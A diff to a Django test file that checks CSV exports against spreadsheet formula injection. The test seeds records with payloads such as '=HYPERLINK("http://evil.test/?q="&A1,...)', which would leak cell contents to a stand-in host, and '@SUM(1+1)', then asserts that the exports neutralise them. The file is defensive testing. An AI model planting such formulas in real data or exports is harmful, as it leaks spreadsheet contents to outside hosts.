@@ -60,7 +60,7 @@ def formula_world(security_world):
     for volunteer, formula in zip(volunteers, typed):
         Volunteer.objects.filter(pk=volunteer.pk).update(name=formula, notes=formula)
     Incident.objects.filter(pk=world.incident.pk).update(address=FORMULAS[0], description=FORMULAS[3])
-    ShiftType.objects.update(name=FORMULAS[0])
+    ShiftType.objects.update(name='=HYPERLINK("http://e.test","x")')  # the column holds 40
     world.users["supervisor"].first_name, world.users["supervisor"].last_name = "@SUM(1+1)", ""
     world.users["supervisor"].save()
     world.objects.update(cameras=cameras, volunteers=volunteers)
@@ -94,7 +94,7 @@ def test_no_csv_export_has_a_cell_that_starts_a_formula(formula_world, role_clie
     everything = set().union(*seen.values())
     # The payloads are in the files, as text that reads back to what was stored.
     assert {"=HYPERLINK(\"http://evil.test/?q=\"&A1,\"klik\")", "+1+1", "-1+1", "@SUM(1+1)", "'=1+1"} <= everything
-    assert "@SUM(1+1)" in seen[next(url for url in seen if "/shifts/calendar/" in url)]
+    assert {"@SUM(1+1)", '=HYPERLINK("http://e.test","x")'} <= seen[next(url for url in seen if "/shifts/calendar/" in url)]
     assert FORMULAS[0] in seen["/reports/export/incidents.csv?period=today"]
 
 
